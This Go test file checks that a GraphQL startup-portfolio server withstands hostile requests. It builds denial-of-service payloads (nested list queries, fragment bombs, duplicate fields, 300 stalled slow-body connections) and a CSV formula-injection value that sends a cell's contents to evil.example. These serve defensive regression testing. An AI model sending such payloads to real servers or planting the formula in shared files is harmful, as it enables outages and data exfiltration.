package reliability

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The hostile requests of issue 12, each of which took the server down or
// read what it should not: TestHostile sends them to the real binary on
// the real snapshot (or the seed without it). PORTFOLIO_BINARY runs the
// suite against another build (e.g. an older one, to see it fail).

// nestQuery is the list-multiplying query that took 4.8 GB: startups, their
// team's members, their startups, and so on, depth times.
func nestQuery(first, depth int) string {
	var b strings.Builder
	fmt.Fprintf(&b, `{ startups(first: %d, asOf: "2024-02-01") { nodes { `, first)
	for range depth {
		b.WriteString("team { member { startups { ")
	}
	b.WriteString("description")
	b.WriteString(strings.Repeat(" } } }", depth))
	b.WriteString(" } } }")
	return b.String()
}

// committeeNest goes committees → startup → team → member → missions →
// startups, depth times.
func committeeNest(depth int) string {
	var b strings.Builder
	b.WriteString(`{ committees(first: 1000) { nodes { `)
	for range depth {
		b.WriteString("startup { team { member { missions(first: 100) { nodes { startups { committees { ")
	}
	b.WriteString("comment")
	b.WriteString(strings.Repeat(" } } } } } } }", depth))
	b.WriteString(" } } }")
	return b.String()
}

// aliasedLists asks for the same list n times under aliases.
func aliasedLists(n int) string {
	var b strings.Builder
	b.WriteString(`{ startups(first: 1000) { nodes { `)
	for i := range n {
		fmt.Fprintf(&b, "t%d: team { member { fullname bio: role } } ", i)
	}
	b.WriteString("} } }")
	return b.String()
}

// fragmentNest is a document of n fragments each spreading the one below
// twice: 2^n fields once expanded, in a few hundred bytes.
func fragmentNest(n int) string {
	var b strings.Builder
	b.WriteString("{ ...F0 }\n")
	for i := range n {
		fmt.Fprintf(&b, "fragment F%d on Query { ...F%d ...F%d }\n", i, i+1, i+1)
	}
	fmt.Fprintf(&b, "fragment F%d on Query { __typename }\n", n)
	return b.String()
}

// duplicateFields is one field repeated n times.
func duplicateFields(n int) string {
	return "{ " + strings.Repeat("__typename ", n) + "}"
}

// sha256Hex is the SHA-256 of s, in hex, as trusted-documents files key
// their documents.
func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// cpuSeconds returns the user and system CPU time of a process.
func cpuSeconds(pid int) float64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return 0
	}
	// Fields after the command (which may hold spaces), from field 3.
	s := string(b)
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+2:])
	utime, _ := strconv.ParseFloat(f[11], 64)
	stime, _ := strconv.ParseFloat(f[12], 64)
	return (utime + stime) / 100 // clock ticks (USER_HZ, 100 on Linux)
}

// exportGet asks for an export by GET.
func exportGet(c *http.Client, base, token string, params url.Values) (*reply, error) {
	req, err := http.NewRequest(http.MethodGet, base+"/export?"+params.Encode(), nil)
	if err != nil {
		return nil, err
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	return send(c, req)
}

// TestHostile sends the hostile requests one by one and checks that each is
// refused or cut, costs the server little CPU, and leaves its memory low.
func TestHostile(t *testing.T) {
	requireSuite(t, "Hostile")
	binary(t)
	path, source := newDatabase(t, true)
	f := newFixture(t, path, source)
	s := startServer(t, path)
	c := newClient(4)
	// The attacks of parts 1-4 (the slow bodies too) come from an address of their own: the
	// server paces an address whose requests it keeps refusing, which
	// would slow the legitimate requests of parts 5-7.
	atk := loopbackClient("127.0.0.2", 4)
	t.Logf("hostile requests against %s", source)

	// cheap runs a request and checks that the server spent less than a
	// second of CPU on it: the old server spent 5 to 55 s on these.
	cheap := func(t *testing.T, name string, do func() (*reply, error)) *reply {
		t.Helper()
		before := cpuSeconds(s.Pid())
		r, err := do()
		cpu := cpuSeconds(s.Pid()) - before
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if cpu >= 1 {
			t.Errorf("%s: the server spent %.2f s of CPU on it", name, cpu)
		}
		t.Logf("%s: status %d, %s, %.2f s CPU, %d bytes", name, r.Status, r.firstCode(), cpu, len(r.Body))
		return r
	}
	refusedOrCut := func(t *testing.T, name string, r *reply) {
		t.Helper()
		switch code := r.firstCode(); {
		case r.Status == 422 && code == "COMPLEXITY_LIMIT":
		case r.Status == 200 && (code == "RESPONSE_TOO_LARGE" || code == "UNAVAILABLE") && string(r.Data) == "null":
		case r.Status == 200 && code == "" && len(r.Body) < 32<<20:
			// Within its cost: an answer the limits allow (at depth 1 on
			// a small network), cheap by the check above.
		default:
			t.Errorf("%s: status %d code %q (%d bytes), want refused (COMPLEXITY_LIMIT) or cut (RESPONSE_TOO_LARGE)", name, r.Status, code, len(r.Body))
		}
	}

	t.Run("1 lists multiply", func(t *testing.T) {
		ctx := context.Background()
		for depth := 1; 3*depth+4 <= 15; depth++ {
			q := nestQuery(1000, depth)
			r := cheap(t, fmt.Sprintf("nest depth %d", depth), func() (*reply, error) { return gql(ctx, atk, s.URL, "", q, nil) })
			refusedOrCut(t, fmt.Sprintf("nest depth %d", depth), r)
		}
		for depth := 1; depth <= 2; depth++ {
			q := committeeNest(depth)
			r := cheap(t, fmt.Sprintf("committee nest depth %d", depth), func() (*reply, error) { return gql(ctx, atk, s.URL, f.Viewer, q, nil) })
			refusedOrCut(t, fmt.Sprintf("committee nest depth %d", depth), r)
		}
		r := cheap(t, "aliased lists", func() (*reply, error) { return gql(ctx, atk, s.URL, "", aliasedLists(60), nil) })
		refusedOrCut(t, "aliased lists", r)
		// The same through /export.
		r = cheap(t, "nest through /export", func() (*reply, error) {
			return exportGet(atk, s.URL, "", url.Values{"format": {"csv"}, "query": {nestQuery(1000, 2)}})
		})
		if r.Status != 422 || !bytes.Contains(r.Body, []byte("COMPLEXITY_LIMIT")) {
			t.Errorf("nest through /export: status %d %.200s, want 422 COMPLEXITY_LIMIT", r.Status, r.Body)
		}
		if rss := s.peakRSS(); rss > 300<<10 {
			t.Errorf("server peak RSS %.0f MiB after the multiplying lists, want under 300", float64(rss)/1024)
		} else {
			t.Logf("server peak RSS %.0f MiB", float64(rss)/1024)
		}
	})

	t.Run("2 documents that cost CPU before any guard", func(t *testing.T) {
		ctx := context.Background()
		bombs := []struct{ name, query string }{
			{"fragment nest, 14 levels", fragmentNest(14)},
			{"fragment nest, 30 levels", fragmentNest(30)},
			{"20,000 duplicate fields", duplicateFields(20_000)},
			{"9,900 fields", duplicateFields(9_900)},
		}
		for _, bomb := range bombs {
			for _, via := range []string{"/graphql", "/export GET", "/export POST"} {
				name := bomb.name + " via " + via
				if via == "/export GET" && len(bomb.query) > 60<<10 {
					// A URL past 64 KiB is refused before any handler.
					r, err := exportGet(atk, s.URL, "", url.Values{"format": {"csv"}, "query": {bomb.query}})
					if err == nil && r.Status != http.StatusRequestHeaderFieldsTooLarge {
						t.Errorf("%s: status %d, want 431 or a closed connection", name, r.Status)
					}
					continue
				}
				r := cheap(t, name, func() (*reply, error) {
					switch via {
					case "/graphql":
						return gql(ctx, atk, s.URL, "", bomb.query, nil)
					case "/export GET":
						return exportGet(atk, s.URL, "", url.Values{"format": {"csv"}, "query": {bomb.query}})
					}
					body, _ := json.Marshal(map[string]any{"query": bomb.query, "format": "csv"})
					req, _ := http.NewRequest(http.MethodPost, s.URL+"/export", bytes.NewReader(body))
					req.Header.Set("Content-Type", "application/json")
					return send(atk, req)
				})
				if r.Status < 400 || r.Status >= 500 {
					t.Errorf("%s: status %d, want a refusal (4xx) %.200s", name, r.Status, r.Body)
				}
			}
		}
	})

	t.Run("3 a protected value through a filter", func(t *testing.T) {
		q := `{ members(filter: {statuses: [SERVICE]}) { totalCount nodes { slug } } }`
		r, err := gql(context.Background(), atk, s.URL, "", q, nil)
		if err != nil {
			t.Fatal(err)
		}
		if r.firstCode() != "FORBIDDEN" || bytes.Contains(r.Data, []byte("totalCount")) {
			t.Errorf("anonymous statuses filter: code %q data %.100s, want FORBIDDEN and no data", r.firstCode(), r.Data)
		}
		r, err = exportGet(atk, s.URL, "", url.Values{"format": {"csv"}, "query": {q}})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status == 200 || !bytes.Contains(r.Body, []byte("FORBIDDEN")) {
			t.Errorf("anonymous statuses filter through /export: status %d %.200s", r.Status, r.Body)
		}
		if r, _ := gql(context.Background(), atk, s.URL, f.Viewer, q, nil); r == nil || len(r.Errors) > 0 {
			t.Errorf("a viewer's statuses filter: %+v", r)
		}
	})

	t.Run("4 slow bodies and idle connections", func(t *testing.T) {
		// 300 connections each send 1 MiB minus 10 bytes and stall; the
		// server must close them after its read timeout (15 s by default)
		// and keep answering meanwhile.
		const conns = 300
		before := s.peakRSS()
		var wg sync.WaitGroup
		closed := make(chan bool, conns)
		stalled := make(chan struct{}, conns) // a connection sent its body, or failed to
		chunk := bytes.Repeat([]byte(" "), 64<<10)
		for range conns {
			wg.Go(func() {
				conn, err := loopbackDialer("127.0.0.2").Dial("tcp", strings.TrimPrefix(s.URL, "http://"))
				if err != nil {
					stalled <- struct{}{}
					closed <- true // refused: not held either
					return
				}
				defer conn.Close()
				fmt.Fprintf(conn, "POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{\"query\":\"", 1<<20)
				for sent := 0; sent < 1<<20-10-64<<10; sent += len(chunk) {
					if _, err := conn.Write(chunk); err != nil {
						stalled <- struct{}{}
						closed <- true
						return
					}
				}
				stalled <- struct{}{}
				conn.SetReadDeadline(time.Now().Add(45 * time.Second))
				_, err = io.Copy(io.Discard, conn)
				ne, ok := err.(net.Error)
				closed <- !(ok && ne.Timeout())
			})
		}
		// While they stall (every one has sent its body), a normal read is
		// answered: from another client address, since past 64 the
		// stalling client's own connections are refused (429).
		for range conns {
			<-stalled
		}
		r, err := gql(context.Background(), loopbackClient("127.0.0.3", 1), s.URL, "", `{ startups(first: 5) { nodes { slug } } }`, nil)
		if err != nil || r.Status != 200 || len(r.Errors) > 0 {
			t.Errorf("a read during the slow bodies: %v %+v", err, r)
		}
		wg.Wait()
		close(closed)
		open := 0
		for c := range closed {
			if !c {
				open++
			}
		}
		if open > 0 {
			t.Errorf("%d of %d stalled connections were still open after 45 s", open, conns)
		}
		t.Logf("slow bodies: peak RSS %.0f MiB before, %.0f MiB after", float64(before)/1024, float64(s.peakRSS())/1024)
		// An idle keep-alive connection is closed too (60 s by default):
		// checked in internal/server with a short timeout.
	})

	t.Run("5 formulas in CSV", func(t *testing.T) {
		const evil = `=HYPERLINK("http://evil.example/?"&A1,"clic")`
		slug := "zz-hostile-formula"
		var out struct {
			CreateStartup struct{ Startup struct{ Slug string } }
		}
		mustQuery(t, c, s.URL, f.Admin, `mutation($in: CreateStartupInput!) { createStartup(input: $in) { startup { slug } } }`,
			map[string]any{"in": map[string]any{"slug": slug, "name": evil, "pitch": "a\rb", "incubator": f.Incubator}}, &out)
		check := func(name, csvText string, comma rune) {
			rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(csvText, "\uFEFF")))
			rd.Comma, rd.FieldsPerRecord, rd.LazyQuotes = comma, -1, true
			recs, err := rd.ReadAll()
			if err != nil {
				t.Errorf("%s: %v", name, err)
				return
			}
			found := false
			for _, rec := range recs {
				for _, cell := range rec {
					if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
						t.Errorf("%s: a cell starts with %q: %q", name, cell[:1], cell)
					}
					if strings.Contains(cell, "HYPERLINK") {
						found = true
					}
				}
			}
			if !found {
				t.Errorf("%s: the startup is not in the export", name)
			}
		}
		q := `{ startups(filter: {slugs: ["` + slug + `"]}) { nodes { slug name pitch } } }`
		for _, d := range []string{"", "excel-fr"} {
			r, err := exportGet(c, s.URL, f.Viewer, url.Values{"format": {"csv"}, "dialect": {d}, "query": {q}})
			if err != nil || r.Status != 200 {
				t.Fatalf("export dialect %q: %v %+v", d, err, r)
			}
			comma := ','
			if d == "excel-fr" {
				comma = ';'
			}
			check("query export "+d, string(r.Body), comma)
			if d == "" && !bytes.Contains(r.Body, []byte("a\rb")) {
				t.Errorf("the lone CR of the pitch was dropped: %q", r.Body)
			}
			req, _ := http.NewRequest(http.MethodGet, s.URL+"/export/startups.csv?search=HYPERLINK&dialect="+d, nil)
			req.Header.Set("Authorization", "Bearer "+f.Viewer)
			if r, err := send(c, req); err != nil || r.Status != 200 {
				t.Errorf("ready-made export: %v %+v", err, r)
			} else {
				check("ready-made export "+d, string(r.Body), comma)
			}
		}
		qf := filepath.Join(t.TempDir(), "q.graphql")
		os.WriteFile(qf, []byte(q), 0o644)
		check("portfolio export", cli(t, "export", "--db", path, "--query", qf, "--format", "csv"), ',')
	})

	t.Run("6 re-import keeps what the API did", func(t *testing.T) {
		dir := os.Getenv("PORTFOLIO_SNAPSHOT")
		if dir == "" {
			t.Skip("needs PORTFOLIO_SNAPSHOT: a seeded database takes no import")
		}
		var cs struct {
			Committee struct {
				Slug    string
				Version int
			}
			Startup struct {
				Slug    string
				Version int
			}
		}
		mustQuery(t, c, s.URL, f.Viewer, `query($c: String!, $s: String!) { committee(slug: $c) { slug version } startup(slug: $s) { slug version } }`,
			map[string]any{"c": f.Committee, "s": f.Own[0]}, &cs)
		mustQuery(t, c, s.URL, f.Admin, `mutation($id: String!, $v: Int!) { deleteCommittee(input: {id: $id, version: $v}) { clientMutationId } }`,
			map[string]any{"id": cs.Committee.Slug, "v": cs.Committee.Version}, nil)
		mustQuery(t, c, s.URL, f.Admin, `mutation($id: String!, $v: Int!) { updateStartup(input: {id: $id, version: $v, name: "Nom choisi dans l'outil"}) { clientMutationId } }`,
			map[string]any{"id": cs.Startup.Slug, "v": cs.Startup.Version}, nil)
		out := cli(t, "import", "--db", path, dir)
		var after struct {
			Committee *struct{ Slug string }
			Startup   struct{ Name string }
		}
		mustQuery(t, c, s.URL, f.Viewer, `query($c: String!, $s: String!) { committee(slug: $c) { slug } startup(slug: $s) { name } }`,
			map[string]any{"c": f.Committee, "s": f.Own[0]}, &after)
		if after.Committee != nil {
			t.Errorf("the committee deleted through the API came back with the import")
		}
		if after.Startup.Name != "Nom choisi dans l'outil" {
			t.Errorf("the name edited through the API became %q with the import", after.Startup.Name)
		}
		for _, want := range []string{f.Committee, cs.Startup.Slug + ": name: kept"} {
			if !strings.Contains(out, want) {
				t.Errorf("the import's summary does not mention %q:\n%s", want, out)
			}
		}
	})

	t.Run("7 smaller", func(t *testing.T) {
		// totalCount of an empty nested connection.
		var d struct {
			Incubators struct {
				Nodes []struct{ Startups struct{ TotalCount int } }
			}
		}
		mustQuery(t, c, s.URL, "", `{ incubators(first: 100) { nodes { startups(filter: {slugs: []}) { totalCount } } } }`, nil, &d)
		for _, n := range d.Incubators.Nodes {
			if n.Startups.TotalCount != 0 {
				t.Errorf("an empty nested connection counts %d", n.Startups.TotalCount)
			}
		}
		// /export is logged and counted.
		exportGet(c, s.URL, f.Viewer, url.Values{"format": {"csv"}, "query": {`{ incubators { nodes { slug } } }`}})
		if !strings.Contains(s.stderr.String(), "msg=export") {
			t.Errorf("no log line for an export:\n%s", truncate(s.stderr.String(), 2000))
		}
		req, _ := http.NewRequest(http.MethodGet, s.URL+"/metrics", nil)
		if r, err := send(c, req); err != nil || !bytes.Contains(r.Body, []byte("portfolio_exports_total")) {
			t.Errorf("/metrics has no export series: %v", err)
		}
		// Closed introspection is a refusal, not an internal error.
		closed := startServer(t, path, "--no-introspection", "--public-read=false")
		r, err := gql(context.Background(), c, closed.URL, f.Viewer, `{ __schema { queryType { name } } }`, nil)
		if err != nil || r.firstCode() != "FORBIDDEN" {
			t.Errorf("introspection closed: %v code %q", err, r.firstCode())
		}
		if errs, _, ex := closed.stderr.counts(); errs > 0 {
			t.Errorf("closed introspection logged %d ERROR lines: %v", errs, ex)
		}
		// /metrics without public reading needs a token.
		req, _ = http.NewRequest(http.MethodGet, closed.URL+"/metrics", nil)
		if r, err := send(c, req); err != nil || r.Status != http.StatusUnauthorized {
			t.Errorf("/metrics without a token, public reading off: %v %+v", err, r)
		}
		// Trusted documents let the ready-made exports and trusted
		// documents through /export.
		doc := `{ incubators { nodes { slug title } } }`
		manifest := filepath.Join(t.TempDir(), "trusted.json")
		b, _ := json.Marshal(map[string]string{sha256Hex(doc): doc})
		os.WriteFile(manifest, b, 0o644)
		trusted := startServer(t, path, "--trusted-documents", manifest)
		for _, u := range []string{"/export/startups.csv", "/export/committees.xlsx", "/export?format=csv&query=" + url.QueryEscape(doc)} {
			req, _ := http.NewRequest(http.MethodGet, trusted.URL+u, nil)
			req.Header.Set("Authorization", "Bearer "+f.Viewer)
			if r, err := send(c, req); err != nil || r.Status != 200 {
				t.Errorf("trusted documents, %s: %v %d %.200s", u, err, r.Status, r.Body)
			}
		}
		r, err = exportGet(c, trusted.URL, f.Viewer, url.Values{"format": {"csv"}, "query": {`{ startups { nodes { slug } } }`}})
		if err != nil || r.Status != 422 || !bytes.Contains(r.Body, []byte("UNTRUSTED_DOCUMENT")) {
			t.Errorf("an untrusted document through /export: %v %d %.200s", err, r.Status, r.Body)
		}
	})
}
